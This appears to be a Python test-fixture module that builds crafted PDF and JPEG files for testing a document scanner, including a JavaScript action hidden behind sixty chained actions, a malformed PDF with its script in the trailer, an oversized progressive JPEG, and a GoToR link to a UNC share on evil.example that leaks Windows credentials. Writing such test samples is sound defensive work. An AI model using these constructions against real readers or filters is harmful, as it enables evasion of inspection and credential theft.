"""Files made to get past whoever looks through them."""

import pikepdf
from tests.documents.samples import image, opening


def with_a_script_deep_inside(document: pikepdf.Pdf) -> None:
    """Sixty actions, each behind the other, as readers carry them out one by one."""
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('xin chào')")
    for _ in range(60):
        action = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=action)
    document.Root.OpenAction = action


def with_a_way_to_another_machine(document: pikepdf.Pdf) -> None:
    """To follow it, Windows shows the other machine by whom it is asked."""
    opening(document, S=pikepdf.Name.GoToR, F="\\\\evil.example\\share\\a.pdf", D=[0])


def with_its_catalogue_in_the_trailer() -> bytes:
    """A PDF whose catalogue, with a script, is no object of its own."""
    objects = (
        b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n",
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n",
    )
    content, places = b"%PDF-1.7\n", []
    for one in objects:
        places.append(len(content))
        content += one
    start = len(content)
    rows = "".join(f"{place:010} 00000 n \n" for place in places).encode()
    root = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
    return (
        content + b"xref\n0 1\n0000000000 65535 f \n2 2\n" + rows
        + b"trailer\n<</Size 4/Root " + root + b">>\nstartxref\n" + str(start).encode()
        + b"\n%%EOF\n"
    )  # fmt: skip


def showing_by_and_by(scans: int) -> bytes:
    """A photograph that shows by and by, its last scan sent again until there are so many."""
    content = image("JPEG", mode="L", color=90, progressive=True)
    last = content.rindex(b"\xff\xda")
    again = content[last:-2]
    return content[:-2] + again * (scans - content.count(b"\xff\xda")) + content[-2:]
